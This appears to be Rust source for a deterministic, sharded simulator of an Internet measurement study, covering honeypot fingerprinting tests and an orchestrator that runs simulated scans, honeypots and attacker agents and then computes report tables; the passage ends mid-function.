//! 2. **Active stage** ([`engine`]) — probe each passive candidate twice
//!    with junk input: low-interaction honeypots replay a *static response*,
//!    while real devices' shells react to the input. Candidates that answer
//!    identically (and keep serving their banner) are confirmed.

pub mod engine;
pub mod matcher;
pub mod signatures;

pub use engine::{Detection, FingerprintProber, FingerprintReport};
pub use matcher::{AhoCorasick, MatcherStats, SparseAhoCorasick};
pub use signatures::SignatureDb;
