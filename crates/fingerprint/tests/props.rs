//! Property tests for the fingerprint matcher: the Aho-Corasick automaton
//! must agree with the naive oracle on arbitrary pattern sets and haystacks.

use ofh_fingerprint::matcher::{naive_find_all, AhoCorasick, SparseAhoCorasick};
use ofh_fingerprint::SignatureDb;
use proptest::prelude::*;

proptest! {
    /// Differential test: dense and hashmap-goto automata vs naive search,
    /// arbitrary inputs.
    #[test]
    fn automaton_matches_naive(
        patterns in prop::collection::vec(prop::collection::vec(any::<u8>(), 1..12), 1..8),
        haystack in prop::collection::vec(any::<u8>(), 0..400),
    ) {
        let expected = naive_find_all(&patterns, &haystack);
        let ac = AhoCorasick::new(&patterns);
        prop_assert_eq!(ac.find_all(&haystack), expected.clone());
        let sparse = SparseAhoCorasick::new(&patterns);
        prop_assert_eq!(sparse.find_all(&haystack), expected);
    }

    /// The production entry point and its ablation oracle agree on
    /// arbitrary banners, with or without an embedded signature.
    #[test]
    fn match_banner_agrees_with_naive(
        prefix in prop::collection::vec(any::<u8>(), 0..64),
        suffix in prop::collection::vec(any::<u8>(), 0..64),
        embed in prop::option::of(0usize..9),
    ) {
        let db = SignatureDb::new();
        let mut banner = prefix;
        if let Some(which) = embed {
            banner.extend_from_slice(db.families()[which].signature());
        }
        banner.extend_from_slice(&suffix);
        prop_assert_eq!(db.match_banner(&banner), db.match_banner_naive(&banner));
    }

    /// Patterns embedded at arbitrary positions are always found.
    #[test]
    fn embedded_patterns_found(
        prefix in prop::collection::vec(any::<u8>(), 0..64),
        suffix in prop::collection::vec(any::<u8>(), 0..64),
        which in 0usize..9,
    ) {
        let db = SignatureDb::new();
        let family = db.families()[which];
        let mut haystack = prefix;
        haystack.extend_from_slice(family.signature());
        haystack.extend_from_slice(&suffix);
        // Some signature may be a substring of another's context; at minimum
        // *a* family must match, and if unique, the right one.
        let found = db.match_banner(&haystack);
        prop_assert!(found.is_some(), "embedded signature not found");
    }

    /// Random haystacks essentially never match (no signature is trivial).
    #[test]
    fn random_noise_rarely_matches(haystack in prop::collection::vec(any::<u8>(), 0..64)) {
        let db = SignatureDb::new();
        // The shortest signature is 9 specific bytes (Cowrie's IAC prefix);
        // the chance of random bytes containing any signature is ~2^-72.
        if haystack.len() < 20 {
            prop_assert_eq!(db.match_banner(&haystack), None);
        }
    }
}
