//! The orchestrator.
//!
//! A study runs in four stages:
//!
//! 1. **Global setup** — population synthesis, attack plan, oracles, geo
//!    database. Seed-only, computed once, shared read-only by every shard.
//! 2. **Sharded execution** — the address space is split into
//!    [`StudyConfig::shards`] deterministic shards ([`ofh_net::shard`]);
//!    each shard is an independent [`SimNet`] simulating only the devices,
//!    wild honeypots and attackers its shard owns (plus a replica of the
//!    deployed honeypots and the telescope tap, which the whole Internet
//!    talks to). Shards run on [`StudyConfig::workers`] threads.
//! 3. **Deterministic merge** — per-shard artifacts are folded in shard
//!    order with order-independent reducers (disjoint map unions, canonical
//!    sorts), so the merged artifacts depend only on (seed, shards) —
//!    never on the worker count or thread scheduling.
//! 4. **Analysis** — every table and figure is computed once from the
//!    merged artifacts, exactly as before sharding existed.
//!
//! Shard-locality is what makes the split sound: honeypot/device agents
//! keep per-connection state only, attack tasks target only the lab
//! honeypots and the dark space (both replicated per shard), so no packet
//! ever needs to cross a shard boundary.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;

use ofh_analysis::events::AttackDataset;
use ofh_analysis::figures::{AttackTypeBreakdown, Fig2, Fig3, Fig5, Fig6, Fig8, Fig9};
use ofh_analysis::infected::InfectedHosts;
use ofh_analysis::table10::Table10;
use ofh_analysis::table12::Table12;
use ofh_analysis::table13::Table13;
use ofh_analysis::table4::Table4;
use ofh_analysis::table5::Table5;
use ofh_analysis::table7::Table7;
use ofh_attack::plan::{AttackPlan, HoneypotSet, PlanConfig};
use ofh_attack::{AttackerAgent, InfectedDevice};
use ofh_devices::arena::HostArena;
use ofh_devices::population::{Population, PopulationBuilder, PopulationSpec};
use ofh_fingerprint::{engine, FingerprintProber, FingerprintReport, SignatureDb};
use ofh_honeypots::{
    AttackEvent, ConpotHoneypot, CowrieHoneypot, DionaeaHoneypot, HosTaGeHoneypot,
    ThingPotHoneypot, UPotHoneypot, WildHoneypot, WildHoneypotAgent,
};
use ofh_intel::{Country, GeoDb};
use ofh_net::rng::rng_for;
use ofh_net::sim::Counters;
use ofh_net::{Agent, AgentId, HostSpawner, ShardSpec, SimNet, SimNetConfig, SimTime};
use ofh_obs::{MetricRegistry, MetricsSnapshot, ProfileNode, ShardObs, Stopwatch, TraceLog};
use ofh_scan::{datasets, scan_start, ScanResults, Scanner, ScannerConfig, TargetSpace};
use ofh_telescope::{Telescope, TelescopeSummary};
use rand::Rng;

use crate::config::{PopulationMode, StudyConfig};
use crate::oracles::Oracles;
use crate::report::StudyReport;

/// A configured study, ready to run.
pub struct Study {
    cfg: StudyConfig,
}

/// Read-only inputs shared by every shard worker.
struct ShardInputs<'a> {
    cfg: &'a StudyConfig,
    population: &'a Population,
    wild: &'a [(Ipv4Addr, WildHoneypot)],
    plan: &'a AttackPlan,
    honeypots: HoneypotSet,
    infected_tasks: &'a BTreeMap<usize, Vec<ofh_attack::Task>>,
    geo: &'a GeoDb,
    /// Per-shard sparse scan-target indexes for paper-scale universes
    /// (`None` keeps the dense range walk). Indexed by shard: each shard's
    /// sweeps walk only the offsets that shard owns, so total permutation
    /// work stays O(index) at any shard count instead of O(index × shards).
    /// The `Arc` inside each entry makes per-sweep clones free.
    scan_targets: Option<Vec<TargetSpace>>,
    /// Live-telemetry progress cells (one per shard), present only when the
    /// run asked for a heartbeat or a `--live-out` stream. Volatile: the
    /// reporter thread samples these racily; nothing deterministic reads
    /// them.
    live: Option<std::sync::Arc<ofh_obs::LiveProgress>>,
}

/// The streaming host population of one shard: non-infected devices live in
/// a struct-of-arrays [`HostArena`], wild honeypots in a sorted parallel
/// list. Occupancy is a binary search; agents materialize on first touch
/// (see [`ofh_net::HostSpawner`] for the contract this satisfies). Infected
/// devices are *excluded* — their `on_boot` schedules bot tasks, so they
/// must exist from simulation start and stay eagerly attached.
struct ShardSpawner {
    arena: HostArena,
    wild: Vec<(u32, WildHoneypot)>,
}

impl ShardSpawner {
    fn build(inputs: &ShardInputs<'_>, spec: ShardSpec) -> ShardSpawner {
        let arena = HostArena::from_records(
            inputs
                .population
                .records
                .iter()
                .enumerate()
                .filter(|(i, r)| spec.owns(r.addr) && !inputs.infected_tasks.contains_key(i))
                .map(|(_, r)| r),
            |_| true,
        );
        let mut wild: Vec<(u32, WildHoneypot)> = inputs
            .wild
            .iter()
            .filter(|&&(addr, _)| spec.owns(addr))
            .map(|&(addr, family)| (u32::from(addr), family))
            .collect();
        wild.sort_unstable_by_key(|&(addr, _)| addr);
        ShardSpawner { arena, wild }
    }

    fn wild_family(&self, addr: Ipv4Addr) -> Option<WildHoneypot> {
        self.wild
            .binary_search_by_key(&u32::from(addr), |&(a, _)| a)
            .ok()
            .map(|i| self.wild[i].1)
    }
}

impl HostSpawner for ShardSpawner {
    fn occupied(&self, addr: Ipv4Addr) -> bool {
        self.arena.contains(addr) || self.wild_family(addr).is_some()
    }

    fn spawn(&mut self, addr: Ipv4Addr) -> Option<Box<dyn Agent>> {
        if let Some(slot) = self.arena.lookup(addr) {
            return Some(self.arena.build_agent(slot));
        }
        self.wild_family(addr)
            .map(|family| Box::new(WildHoneypotAgent::new(family)) as Box<dyn Agent>)
    }
}

/// Build the sparse scan-target indexes for a paper-scale universe: every
/// occupied address (devices, wild honeypots, the lab, attackers, the
/// scanning hosts) plus a deterministic stride sample of the telescope's
/// dark space, as offsets from the universe base. ~10^6 entries stand in
/// for 2^32 addresses; sweeps permute over index positions instead.
///
/// The global index is partitioned by shard ownership up front (one hash
/// per offset, once), so each shard's scanner replicas permute an
/// O(index / shards) domain of exclusively-owned targets. The in-sweep
/// `ShardSpec::owns` filter still runs — it is what keeps the dense-range
/// presets correct — it just never rejects an indexed target anymore.
fn build_scan_index(
    cfg: &StudyConfig,
    population: &Population,
    wild: &[(Ipv4Addr, WildHoneypot)],
    plan: &AttackPlan,
    honeypots: &HoneypotSet,
) -> Vec<TargetSpace> {
    let universe = cfg.universe;
    let base = u32::from(universe.cidr().first());
    let rel = |addr: Ipv4Addr| u32::from(addr).wrapping_sub(base);

    let mut offsets: Vec<u32> = Vec::with_capacity(population.records.len() + wild.len() + 8_192);
    offsets.extend(population.records.iter().map(|r| rel(r.addr)));
    offsets.extend(wild.iter().map(|&(addr, _)| rel(addr)));
    for addr in [
        honeypots.hostage,
        honeypots.upot,
        honeypots.conpot,
        honeypots.thingpot,
        honeypots.cowrie,
        honeypots.dionaea,
    ] {
        offsets.push(rel(addr));
    }
    offsets.extend(plan.actors.iter().map(|a| rel(a.addr)));
    // The four scanning/probing hosts scan each other too, as on the real
    // Internet.
    let scanner = rel(universe.scanner_addr());
    offsets.extend((0..4).map(|i| scanner + i));
    // Dark space, sampled at a stride that yields 4,096 telescope-visible
    // probes per sweep regardless of universe size (bits >= 28 here, so the
    // shift is in 8..=12).
    let dark = universe.dark_space();
    let dark_first = u64::from(rel(dark.first()));
    let stride = 1u64 << (universe.bits - 20);
    let mut o = 0u64;
    while o < dark.len() {
        offsets.push((dark_first + o) as u32);
        o += stride;
    }
    offsets.sort_unstable();
    offsets.dedup();
    let mut per_shard: Vec<Vec<u32>> =
        vec![Vec::with_capacity(offsets.len() / cfg.shards as usize + 1); cfg.shards as usize];
    for off in offsets {
        let addr = Ipv4Addr::from(base.wrapping_add(off));
        per_shard[ofh_net::shard_of(addr, cfg.shards) as usize].push(off);
    }
    // Each per-shard list inherits the global sort, satisfying the
    // sorted/unique index contract.
    per_shard.into_iter().map(TargetSpace::index).collect()
}

/// Everything one shard's simulation produces.
struct ShardOutput {
    zmap: ScanResults,
    sonar: ScanResults,
    shodan: ScanResults,
    fingerprint: FingerprintReport,
    /// Per-honeypot event logs, fixed order (HosTaGe, U-PoT, Conpot,
    /// ThingPot, Cowrie, Dionaea).
    logs: Vec<Vec<AttackEvent>>,
    telescope: Telescope,
    counters: Counters,
    /// Retry/loss accounting summed over every scanner replica the shard ran.
    resilience: ofh_scan::ScanResilience,
    /// Connections the shard's deployed-honeypot replicas shed at their gates.
    conns_shed: u64,
    /// Retry-machinery state still held after the shard drained (scanner
    /// grab/retry maps + prober probe states). Must be 0, faults or not.
    leaked: u64,
    /// The shard's recorded metrics and trace ring (`None` when
    /// observability is disabled).
    obs: Option<ShardObs>,
    /// Per-phase wall clock of this shard (single-threaded: wall == cpu).
    profile: ProfileNode,
}

impl Study {
    /// Create a study. Panics on invalid configuration (configs are code,
    /// not user input).
    pub fn new(cfg: StudyConfig) -> Study {
        cfg.validate().expect("invalid study configuration");
        Study { cfg }
    }

    pub fn config(&self) -> &StudyConfig {
        &self.cfg
    }

    /// Execute the full methodology and compute every report.
    pub fn run(&self) -> StudyReport {
        self.run_with(|_| {})
    }

    /// Like [`Self::run`], reporting phase transitions to `progress` (the
    /// long presets take a minute; callers may want a heartbeat).
    pub fn run_with(&self, mut progress: impl FnMut(&str)) -> StudyReport {
        let cfg = &self.cfg;
        let universe = cfg.universe;
        let mut rng = rng_for(cfg.seed, "study");
        let study_sw = Stopwatch::start();
        let setup_sw = Stopwatch::start();

        // ---- 1. Populations (global) ----------------------------------
        progress("synthesizing population");
        let mut population = PopulationBuilder::new(PopulationSpec {
            universe,
            scale: cfg.scan_scale,
            seed: cfg.seed,
        })
        .build();

        // Wild honeypots, geo-distributed like devices (Table 6 counts).
        let mut wild: Vec<(Ipv4Addr, WildHoneypot)> = Vec::new();
        for family in WildHoneypot::ALL {
            let n = ((family.paper_count() + cfg.scan_scale / 2) / cfg.scan_scale).max(1);
            for _ in 0..n {
                let (addr, _) = population
                    .allocator
                    .alloc_weighted(&mut rng)
                    .expect("space for wild honeypots");
                wild.push((addr, family));
            }
        }

        // ---- 2. Attack plan and oracles (global) -----------------------
        progress("building attack plan and oracles");
        let honeypots = HoneypotSet::in_lab(&universe);
        let plan_cfg = PlanConfig {
            seed: cfg.seed,
            hp_scale: cfg.hp_scale,
            infected_scale: (cfg.scan_scale / cfg.infected_oversample).max(1),
            universe,
            month_start: cfg.month_start(),
            month_days: cfg.month_days,
            honeypots,
        };
        let plan = AttackPlan::build(&plan_cfg, &population);
        let oracles = Oracles::populate(cfg.seed, &plan, &population);

        // Extend the geo database over the attacker space so telescope
        // records carry source countries for those actors too.
        let mut geo = population.geo.clone();
        let attacker_space = universe.attacker_space();
        let chunk = 1u64 << (32 - geo.prefix_len());
        let mut a = u32::from(attacker_space.first()) as u64;
        while a <= u32::from(attacker_space.last()) as u64 {
            let country = ofh_devices::population::sample_country(&mut rng);
            geo.allocate_block(Ipv4Addr::from(a as u32), country, 64_000 + rng.gen_range(0..400u32));
            a += chunk;
        }

        // Bot schedules per infected device record index.
        let mut infected_tasks: BTreeMap<usize, Vec<ofh_attack::Task>> = BTreeMap::new();
        for inf in plan.infected.iter().chain(&plan.censys_extra) {
            infected_tasks
                .entry(inf.record_idx)
                .or_default()
                .extend(inf.tasks.iter().cloned());
        }

        // ---- 3. Sharded execution --------------------------------------
        let setup_node = setup_sw.leaf("setup");
        let workers = cfg.worker_threads();
        progress("simulating shards");
        let simulate_sw = Stopwatch::start();
        // Paper-scale universes switch the sweeps to the sparse target
        // index: a dense walk of 2^32 addresses per sweep replica is
        // intractable, and the occupied set plus a dark-space sample is all
        // a probe can ever hit.
        let scan_targets = (universe.bits >= 28)
            .then(|| build_scan_index(cfg, &population, &wild, &plan, &honeypots));
        // Live telemetry and the flight recorder are armed here, not in the
        // shards: the reporter is one process-wide thread sampling every
        // shard's progress cell, and the panic hook is process-wide state.
        if cfg.obs.enabled && cfg.obs.flight_dir.is_some() {
            ofh_obs::install_panic_hook();
        }
        let live = cfg.obs.live_requested().then(|| {
            std::sync::Arc::new(ofh_obs::LiveProgress::new(
                cfg.shards,
                cfg.study_end().as_millis(),
            ))
        });
        let reporter = live.as_ref().map(|lp| {
            ofh_obs::Reporter::spawn(
                lp.clone(),
                ofh_obs::ReporterOptions {
                    heartbeat: cfg.obs.heartbeat,
                    interval_ms: cfg.obs.heartbeat_ms,
                    live_out: cfg.obs.live_out.as_ref().map(std::path::PathBuf::from),
                    preset: cfg.preset.clone(),
                    shards: cfg.shards,
                },
            )
        });
        let inputs = ShardInputs {
            cfg,
            population: &population,
            wild: &wild,
            plan: &plan,
            honeypots,
            infected_tasks: &infected_tasks,
            geo: &geo,
            scan_targets,
            live,
        };
        let mut steals_total: u64 = 0;
        let mut outputs: Vec<(u32, ShardOutput)> = if workers == 1 {
            ShardSpec::all(cfg.shards)
                .map(|spec| (spec.index, run_shard(&inputs, spec)))
                .collect()
        } else {
            // Work-stealing scheduler: each worker drains a contiguous
            // block of shards and steals the back half of the fullest
            // sibling when it runs dry (see `crate::scheduler`). Which
            // worker runs which shard is scheduling-dependent, but each
            // shard's simulation is a pure function of (inputs, spec) and
            // results are re-ordered by shard index below, so the merge
            // never sees the difference.
            let scheduler = crate::scheduler::ShardScheduler::new(cfg.shards, workers);
            let outputs = std::thread::scope(|scope| {
                let scheduler = &scheduler;
                let inputs = &inputs;
                let shards = cfg.shards;
                let handles: Vec<_> = (0..workers)
                    .map(|worker| {
                        scope.spawn(move || {
                            let mut done = Vec::new();
                            while let Some(index) = scheduler.next(worker) {
                                let spec = ShardSpec { index, count: shards };
                                done.push((index, run_shard(inputs, spec)));
                                // Keep the reporter's steal count current.
                                if let Some(lp) = &inputs.live {
                                    lp.steals.store(
                                        scheduler.steals(),
                                        std::sync::atomic::Ordering::Relaxed,
                                    );
                                }
                            }
                            done
                        })
                    })
                    .collect();
                handles
                    .into_iter()
                    .flat_map(|h| h.join().expect("shard worker panicked"))
                    .collect()
            });
            steals_total = scheduler.steals();
            outputs
        };
        if let Some(r) = reporter {
            r.stop();
        }
        outputs.sort_by_key(|(index, _)| *index);
        let mut simulate_node = ProfileNode::new("simulate");
        simulate_node.wall_ns = simulate_sw.elapsed().as_nanos() as u64;

        // ---- 4. Deterministic merge ------------------------------------
        progress("merging shard results");
        let merge_sw = Stopwatch::start();
        let mut zmap_results = ScanResults::new("ZMap Scan");
        let mut sonar_results = ScanResults::new("Project Sonar");
        let mut shodan_results = ScanResults::new("Shodan");
        let mut fingerprint_report = FingerprintReport::default();
        let mut logs: Vec<Vec<AttackEvent>> = vec![Vec::new(); 6];
        let mut telescope = Telescope::new(GeoDb::new());
        let mut counters = Counters::default();
        // Metric registries and trace rings merge order-independently
        // (counters sum, gauges max, histograms add bucket-wise; the trace
        // re-sorts on (start, shard, seq)), so the merged observability
        // artifacts — like the report — depend only on (seed, shards).
        let mut registry = MetricRegistry::new();
        let mut trace = TraceLog::default();
        let mut per_shard_events: Vec<u64> = Vec::with_capacity(cfg.shards as usize);
        let mut scan_resilience = ofh_scan::ScanResilience::default();
        let mut conns_shed: u64 = 0;
        let mut leaked: u64 = 0;
        for (index, out) in outputs {
            scan_resilience.absorb(&out.resilience);
            conns_shed += out.conns_shed;
            leaked += out.leaked;
            zmap_results.absorb(out.zmap);
            sonar_results.absorb(out.sonar);
            shodan_results.absorb(out.shodan);
            fingerprint_report.absorb(out.fingerprint);
            for (merged, shard_log) in logs.iter_mut().zip(out.logs) {
                merged.extend(shard_log);
            }
            telescope.absorb(out.telescope);
            counters.absorb(&out.counters);
            per_shard_events.push(out.counters.events_processed);
            if let Some(shard_obs) = out.obs {
                registry.absorb(&shard_obs.metrics);
                trace.absorb(index, shard_obs.trace);
            }
            simulate_node.push_child(out.profile);
        }
        fingerprint_report.normalize();
        trace.finish();
        // Fold the fabric counters in, so the snapshot carries the network
        // totals (including fault-injection drops/corruptions) without the
        // hot path paying for a second count of each event.
        registry.count("net.events_processed", "", counters.events_processed);
        registry.count("net.syns_sent", "", counters.syns_sent);
        registry.count("net.conns_established", "", counters.conns_established);
        registry.count("net.conns_refused", "", counters.conns_refused);
        registry.count("net.conn_timeouts", "", counters.conn_timeouts);
        registry.count("net.tcp_bytes_total", "", counters.tcp_payload_bytes);
        registry.count("net.udp.sent", "", counters.udp_datagrams_sent);
        registry.count("net.udp.dropped", "", counters.udp_datagrams_dropped);
        registry.count("net.udp.corrupted", "", counters.udp_datagrams_corrupted);
        registry.count("net.udp.duplicated", "", counters.udp_datagrams_duplicated);
        registry.count("net.fault.handshake_drops", "", counters.tcp_handshake_drops);
        registry.count("net.fault.rate_limited", "", counters.tcp_rate_limited);
        registry.count("net.fault.resets_injected", "", counters.tcp_resets_injected);
        registry.count("net.fault.churn_suppressed", "", counters.churn_suppressed);
        registry.count("scan.retry.first_attempt_losses", "", scan_resilience.first_attempt_losses);
        registry.count("scan.retry.issued", "", scan_resilience.retries_issued);
        registry.count("scan.retry.recovered", "", scan_resilience.retries_recovered);
        registry.count("fingerprint.retry.issued", "", fingerprint_report.retries_issued);
        registry.count("fingerprint.retry.recovered", "", fingerprint_report.retries_recovered);
        registry.count("honeypot.conns_shed", "", conns_shed);
        // The dataset merge re-sorts all events by (time, src, src_port);
        // every source address lives in exactly one shard, so the sorted
        // stream is independent of the shard split.
        let dataset = AttackDataset::merge(logs);
        let merge_node = merge_sw.leaf("merge");

        // ---- 5. Analysis ------------------------------------------------
        progress("computing tables and figures");
        let analysis_sw = Stopwatch::start();
        let honeypot_filter = fingerprint_report.filter_set();
        let table4 = Table4::compute(&zmap_results, &sonar_results, &shodan_results);
        let table5 = Table5::compute(&zmap_results, &honeypot_filter);
        let misconfigured = Table5::misconfigured_addrs(&zmap_results, &honeypot_filter);
        let table7 = Table7::compute(&dataset, &oracles.rdns);
        let month_start_day = cfg.month_start().day_index();
        let known_scanners: std::collections::BTreeSet<Ipv4Addr> = plan
            .service_sources()
            .keys()
            .copied()
            .filter(|a| ofh_analysis::AttackDataset::is_scanning_service(&oracles.rdns, *a))
            .collect();
        // Gap-tolerant Table 8: daily averages discount scheduled blackout
        // time overlapping the honeypot month instead of silently averaging
        // over dead air.
        let month_outage_minutes = cfg.faults.outage_minutes_between(
            month_start_day * 86_400_000,
            (month_start_day + cfg.month_days) * 86_400_000,
        );
        let table8 = TelescopeSummary::compute_gap_aware(
            &telescope,
            month_start_day,
            month_start_day + cfg.month_days,
            &known_scanners,
            month_outage_minutes,
        );
        let table10 = Table10::compute(&misconfigured, &geo);
        let table12 = Table12::compute(&dataset, 11);
        let table13 = Table13::compute(&dataset, &oracles.malware);
        let fig2 = Fig2::compute(&zmap_results);
        let fig3 = Fig3::compute(&dataset, &oracles.rdns);
        let breakdown = AttackTypeBreakdown::compute(&dataset);
        let fig5 = Fig5::compute(&dataset, &oracles.rdns, &oracles.greynoise);
        let fig6 = Fig6::compute(&dataset, &telescope, &oracles.rdns, &oracles.virustotal);
        let fig8 = Fig8::compute(&dataset, cfg.month_start(), cfg.month_days, &plan.listings);
        let fig9 = Fig9::compute(&dataset, &oracles.rdns);
        let infected = InfectedHosts::compute(
            &misconfigured,
            &dataset,
            &telescope,
            &oracles.virustotal,
            &oracles.censys,
            &oracles.rdns,
        );
        let resilience = crate::report::ResilienceReport::assemble(
            &scan_resilience,
            &fingerprint_report,
            conns_shed,
            cfg.faults.outage_minutes(),
            &counters,
            leaked,
        );
        let analysis_node = analysis_sw.leaf("analysis");

        // ---- 6. The snapshot: profile tree + merged metrics -------------
        // stage → shard → phase, with the wall/cpu split: a parallel
        // "simulate" stage's cpu (the per-shard clocks summed) may exceed
        // its wall (the coordinator's elapsed time) by up to `workers`×.
        let mut profile = ProfileNode::new("study");
        profile.wall_ns = study_sw.elapsed().as_nanos() as u64;
        profile.push_child(setup_node);
        profile.push_child(simulate_node);
        profile.push_child(merge_node);
        profile.push_child(analysis_node);
        let mut metrics = MetricsSnapshot::from_registry(
            cfg.seed,
            cfg.shards,
            &cfg.preset,
            &registry,
            per_shard_events,
        );
        let (pool_hits, pool_misses) = ofh_net::Payload::pool_stats();
        metrics.host.workers = workers as u64;
        metrics.host.pool_hits = pool_hits;
        metrics.host.pool_misses = pool_misses;
        metrics.host.steals = steals_total;
        metrics.host.profile = profile;

        StudyReport {
            config: cfg.clone(),
            table4,
            table5,
            fingerprint: fingerprint_report,
            table7,
            table8,
            table10,
            table12,
            table13,
            fig2,
            fig3,
            breakdown,
            fig5,
            fig6,
            fig8,
            fig9,
            infected,
            resilience,
            dataset,
            telescope,
            geo,
            rdns: oracles.rdns,
            zmap_results,
            sonar_results,
            shodan_results,
            population_size: population.records.len(),
            wild_honeypot_count: wild.len(),
            counters,
            metrics,
            trace,
        }
    }
}

/// Simulate one shard: the March scan, fingerprinting, and the April
/// honeypot month — restricted to the addresses this shard owns.
fn run_shard(inputs: &ShardInputs<'_>, spec: ShardSpec) -> ShardOutput {
    let cfg = inputs.cfg;
    let universe = cfg.universe;

    // Install this shard's recording target for the duration of its
    // simulation. A shard runs to completion on one thread (the dispenser
    // never migrates one mid-run), so everything the instrumented crates
    // record below lands in this shard's private registry and ring.
    let obs_guard = cfg
        .obs
        .enabled
        .then(|| ofh_obs::install(ShardObs::for_shard(spec.index, &cfg.obs)));
    // Point this thread's live-telemetry cell at this shard for the
    // duration of its simulation (cells and shards are 1:1; threads take a
    // cell when they pick a shard up and drop it when done).
    if let Some(lp) = &inputs.live {
        ofh_obs::live::set_cell(Some(lp.cells[spec.index as usize].clone()));
    }
    let shard_sw = Stopwatch::start();
    let mut profile = ProfileNode::new(format!("shard-{:02}", spec.index));
    let phase_sw = Stopwatch::start();

    // ---- Wire up this shard's slice of the simulated Internet ----------
    let mut net = SimNet::new(SimNetConfig {
        seed: spec.seed(cfg.seed, "shard-net"),
        faults: cfg.faults.clone(),
        ..SimNetConfig::default()
    });
    let telescope_tap = net.add_tap(
        universe.dark_space(),
        Box::new(Telescope::new(inputs.geo.clone())),
    );

    // Devices the shard owns — infected ones get their bot schedules.
    match cfg.population {
        PopulationMode::Eager => {
            for (i, record) in inputs.population.records.iter().enumerate() {
                if !spec.owns(record.addr) {
                    continue;
                }
                let agent = record.build_agent();
                match inputs.infected_tasks.get(&i) {
                    Some(tasks) => {
                        net.attach(record.addr, Box::new(InfectedDevice::new(agent, tasks.clone())));
                    }
                    None => {
                        net.attach(record.addr, agent);
                    }
                }
            }
            for &(addr, family) in inputs.wild {
                if spec.owns(addr) {
                    net.attach(addr, Box::new(WildHoneypotAgent::new(family)));
                }
            }
        }
        PopulationMode::Implicit => {
            // Only infected devices exist from the start (their boot
            // schedules the bot tasks); everything else streams out of the
            // shard's arena on first touch.
            for (i, record) in inputs.population.records.iter().enumerate() {
                if !spec.owns(record.addr) {
                    continue;
                }
                if let Some(tasks) = inputs.infected_tasks.get(&i) {
                    net.attach(
                        record.addr,
                        Box::new(InfectedDevice::new(record.build_agent(), tasks.clone())),
                    );
                }
            }
            net.set_spawner(Box::new(ShardSpawner::build(inputs, spec)));
        }
    }

    // Deployed honeypots are replicated into every shard: each replica
    // receives exactly the traffic of this shard's actors, and the merge
    // concatenates the replica logs back into one deployment.
    let honeypots = inputs.honeypots;
    let hostage_id = net.attach(honeypots.hostage, Box::new(HosTaGeHoneypot::new()));
    let upot_id = net.attach(honeypots.upot, Box::new(UPotHoneypot::new()));
    let conpot_id = net.attach(honeypots.conpot, Box::new(ConpotHoneypot::new()));
    let thingpot_id = net.attach(honeypots.thingpot, Box::new(ThingPotHoneypot::new()));
    let cowrie_id = net.attach(honeypots.cowrie, Box::new(CowrieHoneypot::new()));
    let dionaea_id = net.attach(honeypots.dionaea, Box::new(DionaeaHoneypot::new()));

    // Attackers the shard owns.
    for actor in &inputs.plan.actors {
        if spec.owns(actor.addr) {
            net.attach(actor.addr, Box::new(AttackerAgent::new(actor.tasks.clone())));
        }
    }

    // Scanners (ours + the dataset providers): every shard runs a replica
    // that walks the full permutation but probes only its owned addresses.
    let scanner_base = u32::from(universe.scanner_addr());
    let zmap_cfgs: Vec<ScannerConfig> = ofh_wire::Protocol::SCANNED
        .iter()
        .map(|&p| {
            let mut c = ScannerConfig::full(
                p,
                universe.cidr().first(),
                universe.size(),
                scan_start(p),
                spec.seed(cfg.seed ^ 0x5A4D_4150, "scan"),
            );
            c.shard = spec;
            if let Some(ts) = &inputs.scan_targets {
                c.targets = ts[spec.index as usize].clone();
            }
            c
        })
        .collect();
    let scan_end = zmap_cfgs
        .iter()
        .map(Scanner::estimated_end)
        .max()
        .expect("six sweeps");
    let zmap_id = net.attach(
        Ipv4Addr::from(scanner_base),
        Box::new(Scanner::new("ZMap Scan", zmap_cfgs)),
    );
    let (sonar_id, shodan_id) = if cfg.run_dataset_providers {
        let shard_cfgs = |mut cfgs: Vec<ScannerConfig>| {
            for c in &mut cfgs {
                c.shard = spec;
                if let Some(ts) = &inputs.scan_targets {
                    c.targets = ts[spec.index as usize].clone();
                }
            }
            cfgs
        };
        let sonar = Scanner::new(
            "Project Sonar",
            shard_cfgs(datasets::sonar_configs(
                universe.cidr().first(),
                universe.size(),
                SimTime::ZERO,
                spec.seed(cfg.seed, "sonar"),
            )),
        );
        let shodan = Scanner::new(
            "Shodan",
            shard_cfgs(datasets::shodan_configs(
                universe.cidr().first(),
                universe.size(),
                SimTime::ZERO,
                spec.seed(cfg.seed, "shodan"),
            )),
        );
        (
            Some(net.attach(Ipv4Addr::from(scanner_base + 1), Box::new(sonar))),
            Some(net.attach(Ipv4Addr::from(scanner_base + 2), Box::new(shodan))),
        )
    } else {
        (None, None)
    };

    // ---- Scan phase (March) --------------------------------------------
    profile.push_child(phase_sw.leaf("wire"));
    let phase_sw = Stopwatch::start();
    // Under a fault schedule, grabs interrupted near the sweep tail retry
    // with backoff (up to ~4.25 s each, two chained): give the tail room to
    // drain. Fault-free runs keep the original boundary so their traces are
    // byte-for-byte unchanged.
    let scan_end = if cfg.faults.is_none() {
        scan_end
    } else {
        scan_end + ofh_net::SimDuration::from_secs(30)
    };
    net.run_until(scan_end);
    profile.push_child(phase_sw.leaf("scan"));
    let phase_sw = Stopwatch::start();
    let zmap = net
        .agent_downcast_mut::<Scanner>(zmap_id)
        .expect("zmap scanner")
        .results
        .clone();

    // ---- Fingerprint phase ---------------------------------------------
    let signature_db = SignatureDb::new();
    let candidates = engine::passive_candidates(&signature_db, &zmap);
    let candidate_count = candidates.len();
    let prober_id = net.attach(
        Ipv4Addr::from(scanner_base + 3),
        Box::new(FingerprintProber::new(candidates)),
    );
    net.run_until(net.now() + FingerprintProber::estimated_duration(candidate_count));
    profile.push_child(phase_sw.leaf("fingerprint"));

    // ---- Honeypot month (April) ----------------------------------------
    let phase_sw = Stopwatch::start();
    net.run_until(cfg.study_end());
    // Fold the network's locally-accumulated observability (final partial
    // hour, payload-size histograms, connection high-water mark) into this
    // shard's recording target while it is still installed.
    net.flush_obs();
    profile.push_child(phase_sw.leaf("month"));

    // ---- Extraction -----------------------------------------------------
    let phase_sw = Stopwatch::start();
    let mut resilience = ofh_scan::ScanResilience::default();
    let mut leaked: u64 = 0;
    let prober = net
        .agent_downcast_mut::<FingerprintProber>(prober_id)
        .expect("prober");
    leaked += prober.leaked_state();
    let fingerprint = prober.report.clone();
    // Fold in the zmap scanner's retry accounting (its results were cloned
    // at the scan boundary above, after the retry tail drained).
    {
        let s = net.agent_downcast_mut::<Scanner>(zmap_id).expect("zmap scanner");
        resilience.absorb(&s.resilience);
